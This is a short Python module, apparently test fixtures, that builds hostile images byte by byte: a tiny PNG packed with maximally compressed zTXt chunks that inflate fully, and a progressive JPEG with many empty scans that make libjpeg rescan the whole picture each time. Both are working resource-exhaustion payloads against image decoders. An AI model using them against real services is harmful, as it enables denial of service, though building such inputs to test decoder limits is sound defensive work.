"""Small hostile pictures, built byte by byte, whose decoding costs far more than their size."""

from __future__ import annotations

import struct
import zlib


def png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png_with_texts(texts: list[bytes]) -> bytes:
    """A 1x1 grey PNG carrying `texts` as compressed zTXt chunks (each inflates in full)."""
    chunks = [png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))]
    for number, text in enumerate(texts):
        chunks.append(png_chunk(b"zTXt", b"k%d\x00\x00" % number + zlib.compress(text, 9)))
    chunks += [png_chunk(b"IDAT", zlib.compress(b"\x00\x00")), png_chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def progressive_jpeg(side: int, scans: int) -> bytes:
    """A grey progressive JPEG `side` pixels square with `scans` AC scans of no data.

    libjpeg walks every block of the picture once per scan, data or not, so each scan
    of 12 bytes costs as much as decoding the whole picture.
    """
    parts = [
        b"\xff\xd8",
        _segment(0xDB, b"\x00" + b"\x01" * 64),
        _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00"),
        _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00"),  # DC: "0" is category 0
        _segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0"),  # AC: "0" is EOBRUN
        _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + b"\x00" * 8,
    ]
    parts += [_segment(0xDA, b"\x01\x01\x00\x01\x3f\x00")] * scans
    return b"".join(parts) + b"\xff\xd9"
